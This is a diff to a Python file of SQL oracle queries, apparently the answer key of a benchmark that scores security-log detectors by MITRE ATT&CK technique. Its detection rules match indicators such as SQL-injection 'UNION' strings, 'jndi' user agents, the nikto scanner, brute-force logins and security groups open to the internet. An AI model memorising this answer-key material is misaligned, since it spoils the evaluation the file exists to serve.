+            CASE technique WHEN 'T1562.007' THEN 'Security Group Opened to Internet: ' || CASE WHEN port = 3306 THEN 'database' ELSE 'remote-access' END || ' port ' || port || ' exposed to 0.0.0.0/0 by ' || who || '.'
+            WHEN 'T1098' THEN 'IAM Change After Login Failure: iam_policy_changed by ' || who || ' which had recent console-login failures.' ELSE 'No rule matched.' END AS reason, count(*) AS n FROM m GROUP BY 1, 2, 3""",
     "run_summary": RUNS_SQL + "SELECT run_key, CASE run_key WHEN 'rules' THEN 0 WHEN 'llm_v1' THEN 1 WHEN 'llm_v3' THEN 2 WHEN 'hybrid' THEN 3 ELSE 999 END AS place, round(round_even(f1, 4), 3) AS f1 FROM m",
     "f1_matrix": RUNS_SQL + """, x AS (SELECT run_key, round(f1, 6) AS f1 FROM m)
         SELECT 'rules' AS model, f1 AS v1, f1 AS v3 FROM x WHERE run_key = 'rules'
@@ -659,3 +739,13 @@ ORACLES = {
     "accounts_after_alerts": "WITH " + E_SQL + """, a AS (SELECT 'H' || (u % 5) AS host, sec // 21600 AS w, count(*) AS n, min(sec) AS first FROM e WHERE t = 'error' GROUP BY 1, 2 HAVING count(*) > 3)
         SELECT a.host, 'acct' || event_id AS account, sec, first AS burst, n AS burst_n FROM e JOIN a ON a.host = 'H' || (u % 5) AND sec BETWEEN first AND first + 7200 WHERE t = 'signup' AND k < 20""",
 }
+ORACLES["all_labels"] = "WITH a AS (" + " UNION ALL ".join(
+    f"SELECT '{source}' AS source, action, label, technique, n FROM (SELECT action, label, technique, sum(n) AS n FROM ({ORACLES[name]}) GROUP BY ALL)"
+    for source, name in (("linux_auth", "auth_labels"), ("nginx_access", "access_labels"), ("nginx_access", "login_labels"), ("windows_security", "windows_labels"), ("cloud_audit", "cloud_labels"))
+) + """), g AS (SELECT source, action, label, technique, CAST(sum(n) AS BIGINT) AS n FROM a GROUP BY ALL)
+    SELECT *, n AS ids, CAST(sum(n) OVER (PARTITION BY source) AS BIGINT) AS last FROM g"""
+ORACLES["second_detector"] = """SELECT c < 9 AS is_incident, CASE c WHEN 1 THEN 'T1190' WHEN 2 THEN 'T1595.002' WHEN 3 THEN 'T1110' WHEN 4 THEN 'T1083' WHEN 5 THEN 'T1110.001' WHEN 6 THEN 'T1059.001' WHEN 7 THEN 'T1105' WHEN 8 THEN 'T1136.001' WHEN 0 THEN 'T1562.007' END AS technique,
+        CAST(CASE c WHEN 1 THEN 0.85 WHEN 2 THEN 0.8 WHEN 3 THEN 0.75 WHEN 4 THEN 0.7 WHEN 5 THEN 0.8 WHEN 6 THEN 0.8 WHEN 7 THEN 0.75 WHEN 8 THEN 0.55 WHEN 0 THEN 0.8 WHEN 9 THEN 0.6 ELSE 0.5 END AS DOUBLE) AS confidence, kind, count(*) AS n FROM (
+    SELECT 'ng-' AS kind, * FROM (""" + WEB_SQL + """SELECT CASE WHEN target LIKE '%UNION%' OR ua LIKE '%jndi%' THEN 1 WHEN ua = 'nikto/2.1' THEN 2 WHEN action = 'http_post' AND n >= 5 THEN 3 WHEN target LIKE '%/admin%' THEN 4 WHEN n >= 20 AND status = '404' THEN 9 ELSE 10 END AS c FROM units)
+    UNION ALL SELECT 'win', * FROM (""" + WINDOWS_SQL + """SELECT CASE WHEN code = '4625' AND n >= 5 THEN 5 WHEN code = '4625' THEN 9 WHEN code = '4688' AND k < 5 THEN 6 WHEN code = '4688' AND k < 10 THEN 7 WHEN code = '4720' THEN 8 ELSE 10 END FROM units)
+    UNION ALL SELECT 'cld', * FROM (""" + CLOUD_SQL + """SELECT CASE WHEN t = 'click' AND cidr = '0.0.0.0/0' AND port IN (22, 3306) THEN 0 ELSE 10 END FROM r WHERE t <> 'error' UNION ALL SELECT 10 FROM r WHERE t = 'error' HAVING count(*) > 0)) GROUP BY ALL"""
